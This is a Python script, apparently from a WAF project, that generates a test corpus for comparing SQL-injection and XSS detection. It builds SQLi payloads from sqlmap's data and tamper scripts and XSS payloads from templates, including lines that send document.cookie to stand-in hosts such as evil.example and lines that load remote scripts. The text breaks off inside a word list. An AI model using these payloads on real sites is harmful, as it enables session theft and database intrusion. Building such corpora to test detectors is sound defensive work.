#!/usr/bin/env python3
"""Generates the corpus for the @detectSQLi / @detectXSS differential test (keikai vs libmodsecurity).

One JSON object per line:
  {"value": ..., "family": ..., "kind": "sqli"|"xss"|"benign", "split": "tune"|"holdout",
   "method": "GET", "uri": "/?q=<percent-encoded value>", "version": "HTTP/1.1",
   "headers": [["Host", "localhost"]]}
The request fields make each line directly usable by `keikai waf-eval` and bench/modsec_driver.

Parts:
  - SQLi: sqlmap's own test payloads (/usr/share/sqlmap/data/xml/payloads/*.xml: each <test>'s
    <payload>, its boolean <comparison>, and its <vector> with [INFERENCE] filled from
    queries.xml), combined with the boundaries of boundaries.xml (prefix/suffix per clause and
    where) the way lib/controller/checks.py and lib/core/agent.py combine them (prefixQuery,
    suffixQuery, cleanupPayload, the DBMS's unescaper for quoted strings, [SLEEPTIME] = 5, the
    [DELIMITER_START]/[DELIMITER_STOP] markers "q???q"), plus UNION column probes and ORDER BY
    probes as lib/techniques/union builds them, plus sqlmap's tamper scripts applied to a subset
    (the value is what the application receives: the tamper output percent-decoded once, since
    sqlmap sends tamper output in the URL as is). Family = "sqli:<technique>:<test title>",
    "sqli:union:...", "sqli:tamper:<name>".
  - XSS: keikai's own templates (tags, handlers, javascript: URIs, attribute breaks, encodings,
    case and whitespace/comment tricks). Family = "xss:<template>".
  - Benign: ordinary query values. Family = "benign:<kind>".
split: "holdout" for a deterministic half by SHA-256 of family + value (decided here, before any
tuning), otherwise "tune".

Deterministic: the same --seed gives byte-identical output (sqlmap 1.7.2 as packaged in Debian 12).
Usage: python3 bench/make_injection_corpus.py [-o corpus.jsonl] [--seed 1] [--sqlmap DIR]
"""

import argparse
import binascii
import hashlib
import importlib
import json
import os
import random
import re
import sys
import urllib.parse
import xml.etree.ElementTree as ET

SQLMAP = "/usr/share/sqlmap"

# ------------------------------------------------------------------------------------------------
# helpers shared by all parts

R = random.Random(1)


def rand_int(length=4):
    # sqlmap's randomInt: no leading zero.
    return int("".join(R.choice("0123456789" if i else "123456789") for i in range(length)))


def rand_str(length=4, lowercase=False, alphabet=None):
    if alphabet:
        return "".join(R.choice(alphabet) for _ in range(length))
    letters = "abcdefghijklmnopqrstuvwxyz" if lowercase else \
        "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
    return "".join(R.choice(letters) for _ in range(length))


def split_of(family, value):
    h = hashlib.sha256((family + "\x00" + value).encode("utf-8", "surrogatepass")).digest()
    return "holdout" if h[0] & 1 else "tune"


def request_fields(value):
    # Everything but RFC 3986 unreserved bytes is percent-encoded ("+" too, so it stays "+").
    q = urllib.parse.quote(value.encode("utf-8"), safe="-_.~")
    return {"method": "GET", "uri": "/?q=" + q, "version": "HTTP/1.1",
            "headers": [["Host", "localhost"], ["User-Agent", "keikai-injection-diff"],
                        ["Accept", "*/*"]]}


# ------------------------------------------------------------------------------------------------
# SQLi from sqlmap

STYPE = {1: "boolean", 2: "error", 3: "inline", 4: "stacked", 5: "time", 6: "union"}

# DBMS names of <details><dbms> -> sqlmap plugin module (for the unescaper) and queries.xml name.
DBMS_PLUGIN = {
    "MySQL": "mysql", "PostgreSQL": "postgresql", "Microsoft SQL Server": "mssqlserver",
    "Oracle": "oracle", "SQLite": "sqlite", "Microsoft Access": "access", "Firebird": "firebird",
    "SAP MaxDB": "maxdb", "Sybase": "sybase", "IBM DB2": "db2", "HSQLDB": "hsqldb",
    "H2": "h2", "Informix": "informix", "Apache Derby": "derby", "Vertica": "vertica",
    "Mckoi": "mckoi", "Presto": "presto", "Altibase": "altibase", "MimerSQL": "mimersql",
    "CrateDB": "cratedb", "Cubrid": "cubrid", "InterSystems Cache": "cache",
    "eXtremeDB": "extremedb", "FrontBase": "frontbase", "Raima Database Manager": "raima",
    "Virtuoso": "virtuoso", "MonetDB": "monetdb", "ClickHouse": None,
}

# lib/core/settings.py EXCLUDE_UNESCAPE: expressions containing these are not escaped.
EXCLUDE_UNESCAPE = ("WAITFOR DELAY '", " INTO DUMPFILE ", " INTO OUTFILE ", "CREATE ", "BULK ",
                    "EXEC ", "RECONFIGURE ", "DECLARE ")

FROM_DUMMY = {"Oracle": " FROM DUAL", "Microsoft Access": " FROM MSysAccessObjects",
              "Firebird": " FROM RDB$DATABASE", "SAP MaxDB": " FROM VERSIONS",
              "IBM DB2": " FROM SYSIBM.SYSDUMMY1", "HSQLDB": " FROM INFORMATION_SCHEMA.SYSTEM_USERS",
              "Informix": " FROM SYSMASTER:SYSDUAL"}


def text(el, tag):
    x = el.find(tag)
    return x.text if x is not None and x.text is not None else ""


def int_list(s):
    # "1,2,3" or ranges such as "1-8" (sqlmap's parseXmlNode expands them the same way).
    out = []
    for x in s.replace(" ", "").split(","):
        if "-" in x:
            a, b = x.split("-")
            out += list(range(int(a), int(b) + 1))
        elif x != "":
            out.append(int(x))
    return out


class Sqlmap:
    def __init__(self, root):
        self.root = root
        sys.path.insert(0, root)
        from lib.core.data import conf, kb  # noqa: E402  (sqlmap's own modules)
        conf.noEscape = False
        kb.dbmsVersion = ["Unknown"]
        kb.keywords = set(
            x.strip().upper() for x in open(os.path.join(root, "data/txt/keywords.txt"))
            if x.strip() and not x.startswith("#"))
        self.conf, self.kb = conf, kb
        self.escapers = {}
        for name, mod in DBMS_PLUGIN.items():
            if not mod:
                continue
            try:
                m = importlib.import_module("plugins.dbms.%s.syntax" % mod)
                self.escapers[name] = m.Syntax.escape
            except Exception:  # noqa: BLE001 - a plugin that needs more state: no escaping
                pass
        xml_dir = os.path.join(root, "data/xml")
        self.boundaries = []
        for b in ET.parse(os.path.join(xml_dir, "boundaries.xml")).getroot().findall("boundary"):
            self.boundaries.append({
                "level": int(text(b, "level") or 1), "clause": int_list(text(b, "clause")),
                "where": int_list(text(b, "where")), "ptype": int(text(b, "ptype") or 1),
                "prefix": text(b, "prefix"), "suffix": text(b, "suffix")})
        self.tests = []
        for f in sorted(os.listdir(os.path.join(xml_dir, "payloads"))):
            for t in ET.parse(os.path.join(xml_dir, "payloads", f)).getroot().findall("test"):
                req = t.find("request")
                resp = t.find("response")
                det = t.find("details")
                dbms = text(det, "dbms") if det is not None else ""
                self.tests.append({
                    "title": text(t, "title"), "stype": int(text(t, "stype")),
                    "level": int(text(t, "level")), "clause": int_list(text(t, "clause")),
                    "where": int_list(text(t, "where")), "vector": text(t, "vector"),
                    "payload": text(req, "payload"),
                    "comment": req.find("comment").text or "" if req.find("comment") is not None
                    else None,
                    "comparison": text(resp, "comparison") if resp is not None else "",
                    "dbms": dbms.split(",")[0].strip() if dbms else ""})
        self.queries = {}
        for d in ET.parse(os.path.join(xml_dir, "queries.xml")).getroot().findall("dbms"):
            q = {}
            for tag in ("inference", "banner", "current_user", "current_db", "comment"):
                e = d.find(tag)
                if e is not None and e.get("query"):
                    q[tag] = e.get("query")
            self.queries[d.get("value")] = q
        self.tampers = {}

    # kb.chars of lib/core/option.py: "q" + 3 low-frequency letters + "q".
    @staticmethod
    def delimiter():
        return "q" + rand_str(3, alphabet="zqxjkvbp") + "q"

    def escape(self, expr, dbms):
        if not dbms or dbms not in self.escapers:
            return expr
        if any(x in expr for x in EXCLUDE_UNESCAPE):
            return expr
        try:
            out = self.escapers[dbms](expr)
        except Exception:  # noqa: BLE001
            return expr
        return out.replace("'''", "''''")

    def cleanup(self, payload, orig, dbms, starts, stops):
        rep = {"[DELIMITER_START]": starts, "[DELIMITER_STOP]": stops,
               "[AT_REPLACE]": "q" + rand_str(1, lowercase=True) + "q",
               "[SPACE_REPLACE]": "q" + rand_str(1, lowercase=True) + "q",
               "[DOLLAR_REPLACE]": "q" + rand_str(1, lowercase=True) + "q",
               "[HASH_REPLACE]": "q" + rand_str(1, lowercase=True) + "q",
               "[GENERIC_SQL_COMMENT]": "-- [RANDSTR]"}
        for k, v in rep.items():
            payload = payload.replace(k, v)
        for tag in sorted(set(re.findall(r"(?i)\[RANDNUM(?:\d+)?\]", payload))):
            payload = payload.replace(tag, str(rand_int()))
        for tag in sorted(set(re.findall(r"(?i)\[RANDSTR(?:\d+)?\]", payload))):
            payload = payload.replace(tag, rand_str())
        if "[ORIGVALUE]" in payload:
            payload = payload.replace(
                "[ORIGVALUE]", orig if orig.isdigit() else self.escape("'%s'" % orig, dbms))
        payload = payload.replace("[ORIGINAL]", orig)
        if "[INFERENCE]" in payload:
            q = self.queries.get(dbms, {})
            inf = q.get("inference", "ORD(MID((%s),%d,1))>%d")
            what = q.get(R.choice(["banner", "current_user", "current_db"])) or "SELECT 1"
            args = [what, R.randint(1, 12)]
            if "%c" in inf:
                inf = inf.replace("%c", "%s")
                args.append(R.choice("abcdefghijklmnop0123456789"))
            else:
                args.append(R.choice([48, 64, 96, 104, 112, 116, 118, 127]))
            payload = payload.replace("[INFERENCE]", inf % tuple(args))
        payload = payload.replace("[SLEEPTIME]", "5").replace("[DELAYED]", "5")
        return payload

    def bind(self, test, expr, boundary, where, orig, dbms, starts, stops):
        """prefixQuery + suffixQuery + agent.payload of sqlmap, for one boundary and where."""
        expr = self.cleanup(expr, orig, dbms, starts, stops)
        expr = self.escape(expr, dbms)
        prefix, suffix = boundary["prefix"], boundary["suffix"]
        clause = test["clause"]
        if where == 3:
            query = ""
        elif test["stype"] == 4 or clause in ([2, 3], [2], [3]):
            query = prefix
        else:
            query = prefix
            if "SELECT '[RANDSTR]'" in query:
                query = query.replace("'[RANDSTR]'", self.escape("'%s'" % rand_str(), dbms))
            if not (expr and expr[0] == ";") and \
                    not (query and query[-1] in "()" and expr and expr[0] in "()") and \
                    not (query and query[-1] == "("):
                query += " "
        out = query + expr
        comment = test["comment"]
        if comment:
            # "%16" / "%00" comments (Access) are sent raw in the URL: the server decodes them.
            comment = comment.replace("%16", "\x16").replace("%00", "\x00")
        if comment is not None and comment.startswith("[GENERIC_SQL_COMMENT]"):
            comment = "-- [RANDSTR]"
        if comment:
            out += comment
        elif where != 3 and suffix:
            if re.search(r"\w\Z", out) and re.search(r"\A\w", suffix):
                out += " "
            out += suffix
        out = re.sub(r";\W*;", ";", out)
        if where == 1:
            value = orig
        elif where == 2:
            value = "" if out.startswith("-") else "-%d" % rand_int()
        else:
            value = ""
        return self.cleanup(value + out, orig, dbms, starts, stops)

    def matching_boundaries(self, test, where):
        out = []
        for b in self.boundaries:
            if test["clause"] != [0] and b["clause"] != [0] and \
                    not any(c in b["clause"] for c in test["clause"]):
                continue
            if where not in b["where"]:
                continue
            out.append(b)
        return out

    def tamper(self, name, payload):
        if name not in self.tampers:
            self.tampers[name] = importlib.import_module("tamper." + name)
        # Tampers that draw random numbers use Python's global generator: seed it from ours.
        random.seed(R.random())
        return self.tampers[name].tamper(payload)


def orig_values():
    # The original parameter value: mostly numeric ids, as in sqlmap's usual targets.
    return R.choice(["1", "1", "1", "2", "5", "7", "10", "42", "123", "2024", "admin", "test",
                     "john", "search", "abc"])


def sqli_values(sm, per_test):
    out = []
    for test in sm.tests:
        fam_title = test["title"].replace("[CHAR]", "NULL").replace("[COLSTART]", "1") \
            .replace("[COLSTOP]", "10")
        family = "sqli:%s:%s" % (STYPE[test["stype"]], fam_title)
        dbms = test["dbms"]
        if test["stype"] == 6:
            continue  # UNION tests carry no payload: forged below
        combos = []
        for where in test["where"]:
            for b in sm.matching_boundaries(test, where):
                combos.append((b, where))
        R.shuffle(combos)
        for b, where in combos[:per_test]:
            orig = orig_values() if b["ptype"] != 1 else R.choice(["1", "1", "2", "10", "42"])
            starts, stops = sm.delimiter(), sm.delimiter()
            for expr in (test["payload"], test["comparison"]):
                if expr:
                    out.append((family, sm.bind(test, expr, b, where, orig, dbms, starts, stops)))
        # Data-extraction requests use the <vector> with [INFERENCE] filled (boolean, time,
        # stacked); error-based vectors carry [QUERY].
        if test["vector"] and "[UNION]" not in test["vector"]:
            for b, where in combos[:max(2, per_test // 3)]:
                orig = R.choice(["1", "2", "10"]) if b["ptype"] == 1 else orig_values()
                vec = test["vector"]
                if "[QUERY]" in vec:
                    q = sm.queries.get(dbms, {})
                    vec = vec.replace("[QUERY]", q.get(R.choice(["banner", "current_user",
                                                                 "current_db"])) or "SELECT 1")
                out.append((family, sm.bind(test, vec, b, where, orig, dbms, sm.delimiter(),
                                            sm.delimiter())))
    return out


def union_values(sm, n):
    """UNION ALL SELECT probes (lib/techniques/union/test.py and agent.forgeUnionQuery)."""
    out = []
    union_test = {"title": "", "stype": 6, "clause": [1, 2, 3, 4, 5], "where": [1, 2],
                  "comment": None}
    dbmss = ["MySQL", "PostgreSQL", "Microsoft SQL Server", "Oracle", "SQLite", "",
             "Microsoft Access", "IBM DB2", "Firebird"]
    for i in range(n):
        dbms = R.choice(dbmss)
        where = R.choice([1, 1, 2])
        b = R.choice(sm.matching_boundaries(union_test, where))
        orig = R.choice(["1", "2", "10"]) if b["ptype"] == 1 else orig_values()
        comment = R.choice(["-- -", "-- [RANDSTR]", "#", "--", ""]) if dbms in ("MySQL", "") \
            else R.choice(["--", "-- [RANDSTR]"])
        kind = R.choice(["null", "null", "char", "orderby", "concat"])
        count = R.randint(1, 10)
        if kind == "orderby":
            family = "sqli:union:ORDER BY column probe"
            expr = "ORDER BY %d" % R.randint(1, 20)
        else:
            char = "NULL" if kind != "char" else str(rand_int())
            cols = [char] * count
            family = "sqli:union:UNION ALL SELECT %s columns" % ("NULL" if kind != "char"
                                                                  else "number")
            if kind == "concat":
                family = "sqli:union:UNION ALL SELECT data extraction"
                q = sm.queries.get(dbms, {})
                what = (q.get(R.choice(["banner", "current_user", "current_db"])) or "VERSION()")
                what = re.sub(r"^SELECT ", "", what)
                if dbms in ("MySQL", ""):
                    cols[R.randrange(count)] = "CONCAT('[DELIMITER_START]',IFNULL(CAST(%s AS NCHAR),' '),'[DELIMITER_STOP]')" % what
                elif dbms == "Microsoft SQL Server":
                    cols[R.randrange(count)] = "'[DELIMITER_START]'+ISNULL(CAST(%s AS NVARCHAR(4000)),' ')+'[DELIMITER_STOP]'" % what
                else:
                    cols[R.randrange(count)] = "'[DELIMITER_START]'||COALESCE(CAST(%s AS VARCHAR(4000)),' ')||'[DELIMITER_STOP]'" % what
            elif R.random() < 0.5:
                cols[R.randrange(count)] = "CONCAT('[DELIMITER_START]','[RANDSTR]','[DELIMITER_STOP]')" \
                    if dbms in ("MySQL", "") else "'[DELIMITER_START]'||'[RANDSTR]'||'[DELIMITER_STOP]'"
            expr = "UNION ALL SELECT " + ",".join(cols) + FROM_DUMMY.get(dbms, "")
        t = dict(union_test, comment=comment)
        out.append((family, sm.bind(t, expr, b, where, orig, dbms, sm.delimiter(),
                                    sm.delimiter())))
    return out


def heuristic_values(n):
    """checks.py heuristicCheckSqlInjection: the original value plus random quote/paren chars."""
    out = []
    alphabet = ('"', "'", ")", "(", ",", ".")
    for _ in range(n):
        s = ""
        while s.count("'") != 1 or s.count('"') != 1:
            s = "".join(R.choice(alphabet) for _ in range(10))
        out.append(("sqli:heuristic:quote and parenthesis probe", orig_values() + s))
    return out


# Tampers used, each applied to payloads drawn from the other SQLi values. Left out: tampers
# whose output is not valid UTF-8 once decoded (overlongutf8*, unmagicquotes), whole-value
# encodings an application would have to undo itself (base64encode), and those needing more of
# sqlmap's state than a generator can give (commalessmid, sleep2getlock, luanginx, varnish,
# xforwardedfor: headers only).
TAMPERS = [
    "0eunion", "apostrophemask", "apostrophenullencode", "appendnullbyte", "between", "binary",
    "bluecoat", "chardoubleencode", "charencode", "charunicodeencode", "charunicodeescape",
    "commalesslimit", "commentbeforeparentheses", "concat2concatws", "decentities", "dunion",
    "equaltolike", "equaltorlike", "escapequotes", "greatest", "halfversionedmorekeywords",
    "hex2char", "hexentities", "htmlencode", "if2case", "ifnull2casewhenisnull",
    "ifnull2ifisnull", "informationschemacomment", "least", "lowercase", "misunion",
    "modsecurityversioned", "modsecurityzeroversioned", "multiplespaces", "ord2ascii",
    "percentage", "plus2concat", "plus2fnconcat", "randomcase", "randomcomments", "schemasplit",
    "scientific", "sp_password", "space2comment", "space2dash", "space2hash", "space2morecomment",
    "space2morehash", "space2mssqlblank", "space2mssqlhash", "space2mysqlblank",
    "space2mysqldash", "space2plus", "space2randomblank", "substring2leftright",
    "symboliclogical", "unionalltounion", "uppercase", "versionedkeywords",
    "versionedmorekeywords",
]


def tamper_values(sm, base, per_tamper):
    out = []
    for name in TAMPERS:
        picks = R.sample(base, min(per_tamper, len(base)))
        for _family, v in picks:
            try:
                t = sm.tamper(name, v)
            except Exception:  # noqa: BLE001 - a tamper that rejects this payload
                continue
            try:
                # What the application receives: sqlmap's request is decoded once.
                dec = urllib.parse.unquote(t, encoding="utf-8", errors="strict")
            except UnicodeDecodeError:
                continue
            if "\udc80" <= max(dec, default=" ") or any(0xD800 <= ord(c) <= 0xDFFF for c in dec):
                continue
            out.append(("sqli:tamper:%s" % name, dec))
    return out


# ------------------------------------------------------------------------------------------------
# XSS (keikai's own templates)

JS = ["alert(1)", "alert(document.cookie)", "prompt(1)", "confirm(1)", "alert`1`",
      "alert(document.domain)", "print()", "eval(atob('YWxlcnQoMSk='))", "top['al'+'ert'](1)",
      "window.location='//evil.example/?c='+document.cookie", "fetch('//x.example/'+document.cookie)",
      "alert(String.fromCharCode(88,83,83))", "(alert)(1)", "self[`alert`](1)",
      "new Image().src='//e.example/?'+document.cookie", "console.log(1)", "import('//x.example/a.js')",
      "document.write('<img src=//e.example>')", "setTimeout('alert(1)')", "location=name"]
EVENTS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle",
          "onstart", "onbegin", "onanimationstart", "onpointerenter", "onmouseenter", "oninput",
          "onchange", "onsubmit", "onpageshow", "onresize", "onscroll", "onwheel", "onauxclick",
          "onbeforeprint", "onhashchange", "onkeydown", "onmousedown", "ontransitionend",
          "onfocusin", "onpaste", "oncopy", "ondrag", "onend"]
TAGS = ["img", "svg", "body", "iframe", "video", "audio", "input", "details", "marquee", "div",
        "a", "button", "select", "textarea", "object", "embed", "math", "form", "table", "td",
        "style", "frameset", "isindex", "keygen", "source", "image", "x", "xss", "p", "span",
        "meter", "section", "animate", "set", "picture", "noscript", "title", "template"]
JS_URL_SCHEMES = ["javascript:", "JaVaScRiPt:", "javascript&colon;", "java\tscript:",
                  "java&#x09;script:", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;",
                  "&#x6A;avascript:", " javascript:", "\x01javascript:", "jav&#x0A;ascript:",
                  "vbscript:", "VBScript:", "data:text/html,", "data:text/html;base64,",
                  "livescript:", "javascript://%0a"]


def case_mix(s):
    return "".join(c.upper() if R.random() < 0.5 else c.lower() for c in s)


def html_entities(s, hexa=None, pad=False):
    out = []
    for c in s:
        h = R.random() < 0.5 if hexa is None else hexa
        if h:
            out.append("&#x%s%x;" % ("00" if pad else "", ord(c)))
        else:
            out.append("&#%s%d;" % ("00" if pad else "", ord(c)))
    return "".join(out)


def pct(s, all_bytes=False):
    return urllib.parse.quote(s, safe="" if all_bytes else "/:=")


def xss_values(n_per):
    T = {}

    def add(name, fn):
        T[name] = fn

    add("script-tag", lambda: "<script>%s</script>" % R.choice(JS))
    add("script-src", lambda: "<script src=%s></script>" % R.choice(
        ["//evil.example/x.js", "https://x.example/a.js", "data:,alert(1)", "/\\evil.example"]))
    add("script-case", lambda: "<%s>%s</%s>" % (case_mix("script"), R.choice(JS), case_mix("script")))
    add("script-broken-nesting", lambda: "<scr<script>ipt>%s</scr</script>ipt>" % R.choice(JS))
    add("event-handler", lambda: "<%s src=x %s=%s>" % (R.choice(TAGS), R.choice(EVENTS), R.choice(JS)))
    add("event-handler-quoted", lambda: '<%s %s="%s">' % (R.choice(TAGS), R.choice(EVENTS), R.choice(JS)))
    add("img-onerror", lambda: "<img src=%s onerror=%s>" % (R.choice(["x", "1", "#", "/", "''"]),
                                                             R.choice(JS)))
    add("svg-onload", lambda: "<svg%sonload=%s>" % (R.choice([" ", "/", "\t", "\n", " /"]), R.choice(JS)))
    add("svg-nested", lambda: "<svg><%s %s=%s>" % (R.choice(["script", "animate", "set", "a", "g"]),
                                                  R.choice(["onbegin", "onload", "href", "onclick"]),
                                                  R.choice(JS)))
    add("slash-separator", lambda: "<%s/src=x/%s=%s>" % (R.choice(TAGS), R.choice(EVENTS), R.choice(JS)))
    add("whitespace-tricks", lambda: "<%s%s%s%s=%s%s>" % (
        R.choice(TAGS), R.choice(["\t", "\n", "\r", "\x0c", " \n "]), R.choice(EVENTS),
        R.choice(["", " ", "\t"]), R.choice(["", " ", "\n"]), R.choice(JS)))
    add("mixed-case-tag", lambda: "<%s %s=%s>" % (case_mix(R.choice(TAGS)), case_mix(R.choice(EVENTS)),
                                                 R.choice(JS)))
    add("iframe-src", lambda: "<iframe src=%s%s></iframe>" % (R.choice(JS_URL_SCHEMES), R.choice(JS)))
    add("iframe-srcdoc", lambda: "<iframe srcdoc=\"&lt;script&gt;%s&lt;/script&gt;\">" % R.choice(JS))
    add("anchor-js-url", lambda: '<a href="%s%s">%s</a>' % (R.choice(JS_URL_SCHEMES), R.choice(JS),
                                                           R.choice(["click", "x", "here", "a"])))
    add("js-url-bare", lambda: "%s%s" % (R.choice(JS_URL_SCHEMES), R.choice(JS)))
    add("form-action", lambda: '<form action="%s%s"><input type=submit>' % (
        R.choice(JS_URL_SCHEMES), R.choice(JS)))
    add("button-formaction", lambda: '<button formaction=%s%s>x</button>' % (
        R.choice(JS_URL_SCHEMES), R.choice(JS)))
    add("object-data", lambda: '<object data="%s%s">' % (R.choice(JS_URL_SCHEMES), R.choice(JS)))
    add("embed-src", lambda: '<embed src="%s">' % R.choice(
        ["data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=", "javascript:alert(1)", "//x.example/x.swf"]))
    add("meta-refresh", lambda: '<meta http-equiv="refresh" content="0;url=%s%s">' % (
        R.choice(JS_URL_SCHEMES), R.choice(JS)))
    add("link-import", lambda: '<link rel=%s href=%s>' % (
        R.choice(["import", "stylesheet", "preload"]), R.choice(["//x.example/a", "javascript:alert(1)"])))
    add("base-href", lambda: '<base href="%s">' % R.choice(["//evil.example/", "javascript:alert(1)//"]))
    add("style-tag", lambda: "<style>%s</style>" % R.choice(
        ["@import'//x.example/a.css';", "body{background:url(javascript:alert(1))}",
         "*{x:expression(alert(1))}", "li{list-style-image:url(\"javascript:alert(1)\")}"]))
    add("style-attr", lambda: '<%s style="%s">' % (R.choice(TAGS), R.choice(
        ["x:expression(alert(1))", "background:url(javascript:alert(1))", "behavior:url(x.htc)",
         "-moz-binding:url(//x.example/x.xml#x)", "width:expression(alert(1))"])))
    add("attr-break-double", lambda: '"%s><%s %s=%s>' % (R.choice(["", " ", "/"]), R.choice(TAGS),
                                                         R.choice(EVENTS), R.choice(JS)))
    add("attr-break-single", lambda: "'%s><%s %s=%s>" % (R.choice(["", " ", "/"]), R.choice(TAGS),
                                                         R.choice(EVENTS), R.choice(JS)))
    add("attr-injection-double", lambda: '" %s%s="%s' % (R.choice(["", "autofocus ", "x "]),
                                                         R.choice(EVENTS), R.choice(JS)))
    add("attr-injection-single", lambda: "' %s%s='%s" % (R.choice(["", "autofocus ", "x "]),
                                                         R.choice(EVENTS), R.choice(JS)))
    add("attr-injection-unquoted", lambda: "x %s=%s" % (R.choice(EVENTS), R.choice(JS)))
    add("attr-injection-backtick", lambda: "` %s=%s" % (R.choice(EVENTS), R.choice(JS)))
    add("attr-break-style", lambda: '" style="%s' % R.choice(
        ["x:expression(alert(1))", "background:url(javascript:alert(1))", "color:red"]))
    add("close-tag-break", lambda: "%s<%s %s=%s>" % (R.choice(["</title>", "</textarea>", "</script>",
                                                              "</style>", "-->", "]]>", "</noscript>"]),
                                                    R.choice(TAGS), R.choice(EVENTS), R.choice(JS)))
    add("comment-trick", lambda: R.choice([
        "<!--<img src=\"--><img src=x onerror=%s//\">",
        "<!--[if gte IE 4]><script>%s</script><![endif]-->",
        "<!--><svg onload=%s>", "<![CDATA[><script>%s</script>]]>",
        "<comment><img src=\"</comment><img src=x onerror=%s//\">",
        "<!-- --!><img src=x onerror=%s>"]) % R.choice(JS))
    add("html-entity-handler", lambda: "<img src=x onerror=%s>" % html_entities(R.choice(JS)))
    add("html-entity-full", lambda: html_entities("<%s %s=%s>" % (R.choice(TAGS), R.choice(EVENTS),
                                                                    R.choice(JS))))
    add("html-entity-named", lambda: "&lt;script&gt;%s&lt;/script&gt;" % R.choice(JS))
    add("percent-encoded", lambda: pct("<%s %s=%s>" % (R.choice(TAGS), R.choice(EVENTS), R.choice(JS)),
                                       all_bytes=R.random() < 0.5))
    add("double-percent-encoded", lambda: pct(pct("<script>%s</script>" % R.choice(JS), True), True))
    add("js-string-break", lambda: R.choice(["';%s;//", "\";%s;//", "'-%s-'", "\\';%s;//",
                                             "</script><script>%s</script>", "${%s}", "{{constructor.constructor('%s')()}}"]) %
        R.choice(JS).replace("'", "\\'"))
    add("unicode-escape", lambda: "<script>\\u0061lert(1)</script>" if R.random() < 0.5 else
        "<img src=x onerror=\\u0061\\u006cert(1)>")
    add("null-byte", lambda: "<scr\x00ipt>%s</script>" % R.choice(JS) if R.random() < 0.5 else
        "<img src=x o\x00nerror=%s>" % R.choice(JS))
    add("xml-namespace", lambda: R.choice([
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">%s</x:script>",
        "<html xmlns:xss><?import namespace=xss implementation=//x.example/x.htc><xss:xss>%s",
        "<svg><a xlink:href=\"javascript:%s\"><text x=20 y=20>X</text></a></svg>",
        "<xml id=x><x><c><![CDATA[<img src=x onerror=%s>]]></c></x></xml>"]) % R.choice(JS))
    add("doctype", lambda: "<!DOCTYPE html><%s %s=%s>" % (R.choice(TAGS), R.choice(EVENTS), R.choice(JS)))
    add("tag-only", lambda: "<%s>" % R.choice(TAGS + ["script", "iframe", "object", "embed", "svg",
                                                      "applet", "frame", "meta", "link", "base"]))
    add("tag-with-attrs", lambda: "<%s %s=\"%s\">" % (R.choice(TAGS), R.choice(
        ["src", "href", "id", "class", "title", "name", "value", "alt", "data-x"]), R.choice(
        ["x", "1", "#", "/a/b", "hello world", "//example.com/a.png"])))
    add("markup-harmless", lambda: R.choice(["<b>%s</b>", "<i>%s</i>", "<p>%s</p>", "<em>%s</em>",
                                             "<u>%s</u>", "<br>%s", "<h1>%s</h1>", "%s<hr/>"]) %
        R.choice(["hello", "bold text", "note", "1 < 2", "a & b", "x"]))
    add("svg-use-data", lambda: '<svg><use href="data:image/svg+xml;base64,%s#x"></use></svg>' %
        R.choice(["PHN2ZyBpZD0neCc+PC9zdmc+", "PHN2Zz48L3N2Zz4="]))
    add("math-href", lambda: '<math><maction actiontype=statusline xlink:href=javascript:%s>CLICK' %
        R.choice(JS))
    add("polyglot", lambda: R.choice([
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
        "\"'><img src=x onerror=alert(1)>",
        "'\"--></style></script><script>alert(1)</script>",
        "\"><script>alert(String.fromCharCode(88,83,83))</script>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">"]))
    add("expression-bare", lambda: R.choice(["x:expression(%s)", "background:url(javascript:%s)",
                                             "-moz-binding:url(http://x.example/%s)"]) % R.choice(JS))
    add("data-uri", lambda: "data:text/html;base64,%s" % R.choice(
        ["PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"]))
    add("event-no-value", lambda: "<%s %s>" % (R.choice(TAGS), R.choice(EVENTS)))
    add("on-word-prose-attr", lambda: "<%s %s=%s>" % (R.choice(["a", "div", "span"]),
                                                      R.choice(["online", "once", "onion", "only"]),
                                                      R.choice(["1", "yes", "x"])))

    out = []
    for name, fn in T.items():
        for _ in range(n_per):
            out.append(("xss:" + name, fn()))
    return out


# ------------------------------------------------------------------------------------------------
# Benign values

WORDS = """the of and to in is it you that he was for on are with as his they be at one have this
from or had by word but what some we can out other were all there when up use your how said an
each she which do their time if will way about many then them write would like so these her long
make thing see him two has look more day could go come did number sound no most people my over
know water than call first who may down side been now find any new work part take get place made
live where after back little only round man year came show every good me give our under name very
through just form sentence great think say help low line differ turn cause much mean before move
right boy old too same tell does set three want air well also play small end put home read hand
port large spell add even land here must big high such follow act why ask men change went light
kind off need house picture try us again animal point mother world near build self earth father
head stand own page should country found answer school grow study still learn plant cover food
sun four between state keep eye never last let thought city tree cross farm hard start might story
saw far sea draw left late run while press close night real life few north open seem together next
white children begin got walk example ease paper group always music those both mark often letter
until mile river car feet care second book carry took science eat room friend began idea fish
mountain stop once base hear horse cut sure watch color face wood main enough plain girl usual
young ready above ever red list though feel talk bird soon body dog family direct pose leave song
measure door product black short numeral class wind question happen complete ship area half rock
order fire south problem piece told knew pass since top whole king space heard best hour better
true during hundred five remember step early hold west ground interest reach fast verb sing listen
six table travel less morning ten simple several vowel toward war lay against pattern slow center
love person money serve appear road map rain rule govern pull cold notice voice unit power town
fine certain fly fall lead cry dark machine note wait plan figure star box noun field rest correct
able pound done beauty drive stood contain front teach week final gave green oh quick develop
ocean warm free minute strong special mind behind clear tail produce fact street inch multiply
nothing course stay wheel full force blue object decide surface deep moon island foot system busy
test record boat common gold possible plane stead dry wonder laugh thousand ago ran check game
shape equate hot miss brought heat snow tire bring yes distant fill east paint language among
select union insert update delete drop create where from table order group by having limit join
values exec execute declare union null true false case when then else end sleep benchmark like
script alert onload onerror iframe image source style javascript href src""".split()
NAMES = ["John Smith", "Mary O'Brien", "Tim O'Reilly", "Jean-Luc Picard", "D'Angelo Russell",
         "Anne-Marie Dupont", "José García", "Björk Guðmundsdóttir", "Renée Zellweger",
